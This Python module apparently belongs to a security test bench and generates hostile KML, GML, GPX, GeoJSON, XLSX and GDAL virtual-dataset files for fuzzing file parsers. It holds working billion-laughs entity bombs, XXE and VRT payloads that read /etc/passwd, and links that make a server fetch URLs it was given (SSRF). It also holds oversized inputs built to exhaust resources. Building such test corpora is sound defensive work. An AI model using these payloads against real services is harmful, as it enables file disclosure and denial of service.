"""Files that point elsewhere, or unfold: entities, schemas, links, virtual data sets."""

from bench.attacks import formats
from bench.attacks.formats import Group, collection, feature, point, workbook

LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a 'ha'>"
    + "".join(f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
DTD = "<!DOCTYPE x SYSTEM 'http://127.0.0.1:9/x.dtd'>"
FILE_ENTITY = "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"
KML, GML = (
    'xmlns="http://www.opengis.net/kml/2.2"',
    'xmlns:gml="http://www.opengis.net/gml" xmlns:xlink="http://www.w3.org/1999/xlink"',
)


def xml() -> Group:
    """Yield kind, name and bytes of each."""
    for suffix, root in {
        "kml": f"<kml {KML}><name>&i;</name></kml>",
        "gml": f"<a {GML}>&i;</a>",
        "gpx": "<gpx><wpt><name>&i;</name></wpt></gpx>",
    }.items():
        yield f"a billion laughs in {suffix}", f"a.{suffix}", (LAUGHS + root).encode()
        yield f"an external DTD in {suffix}", f"a.{suffix}", (DTD + root.replace("&i;", "")).encode()
        yield f"a file as an entity in {suffix}", f"a.{suffix}", (FILE_ENTITY + root.replace("&i;", "&a;")).encode()
        yield f"a billion laughs in {suffix}, UTF-16", f"a.{suffix}", (LAUGHS + root).encode("utf-16")
    yield "a billion laughs in a workbook", "a.xlsx", workbook(formats.CSV.decode(), head=LAUGHS)
    yield (
        "a sheet's last row at 4,000,000,000",
        "a.xlsx",
        workbook(formats.CSV.decode(), tail='<row r="4000000000"><c r="ZZZZZZ4000000000"><v>1</v></c></row>'),
    )
    yield (
        "KML NetworkLink",
        "a.kml",
        f"<kml {KML}><NetworkLink><Link><href>http://127.0.0.1:9/a.kml</href></Link></NetworkLink></kml>".encode(),
    )
    yield (
        "KML link in a placemark",
        "a.kml",
        f"<kml {KML}><Placemark><Model><Link><href>file:///etc/passwd</href></Link></Model></Placemark></kml>".encode(),
    )
    yield (
        "GML xlink",
        "a.gml",
        f'<a {GML}><gml:featureMember><b><gml:pointProperty xlink:href="http://127.0.0.1:9/#a"/></b></gml:featureMember></a>'.encode(),
    )
    yield (
        "GML schemaLocation",
        "a.gml",
        f'<a {GML} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a http://127.0.0.1:9/a.xsd"/>'.encode(),
    )
    yield (
        "KML coordinates that never end",
        "a.kml",
        f"<kml {KML}><Placemark><LineString><coordinates>".encode() + b"1,1 " * 500_000,
    )
    yield "an XML attribute of 5 MB", "a.kml", b'<kml a="' + b"x" * 5_000_000 + b'"/>'
    yield "200,000 XML attributes", "a.kml", b"<kml " + b" ".join(b'a%d=""' % n for n in range(200_000)) + b"/>"


def pointing() -> Group:
    """Yield kind, name and bytes of each."""
    link = {"type": "link", "properties": {"href": "http://127.0.0.1:9/crs"}}
    yield "a crs that is a link", "a.geojson", collection(feature(point()), crs=link)
    yield (
        "a crs that is a file",
        "a.geojson",
        collection(feature(point()), crs={"type": "link", "properties": {"href": "file:///etc/passwd"}}),
    )
    yield (
        "a crs that is a command",
        "a.geojson",
        collection(feature(point()), crs={"type": "name", "properties": {"name": "+init=/etc/passwd"}}),
    )
    vrt = (
        "<OGRVRTDataSource><OGRVRTLayer name='a'><SrcDataSource>/etc/passwd</SrcDataSource></OGRVRTLayer>"
        "</OGRVRTDataSource>"
    )
    wfs = "<OGRWFSDataSource><URL>http://127.0.0.1:9/wfs</URL></OGRWFSDataSource>"
    raster_vrt = (
        "<VRTDataset rasterXSize='1' rasterYSize='1'><VRTRasterBand><SimpleSource>"
        "<SourceFilename>/etc/passwd</SourceFilename></SimpleSource></VRTRasterBand></VRTDataset>"
    )
    for name, text in {
        "a virtual data set": vrt,
        "a service": wfs,
        "a virtual raster": raster_vrt,
        "a WMS": "<GDAL_WMS><Service name='WMS'><ServerUrl>http://127.0.0.1:9</ServerUrl></Service></GDAL_WMS>",
    }.items():
        for suffix in ("geojson", "gml", "tif", "gpkg"):
            yield f"{name} called {suffix}", f"a.{suffix}", text.encode()
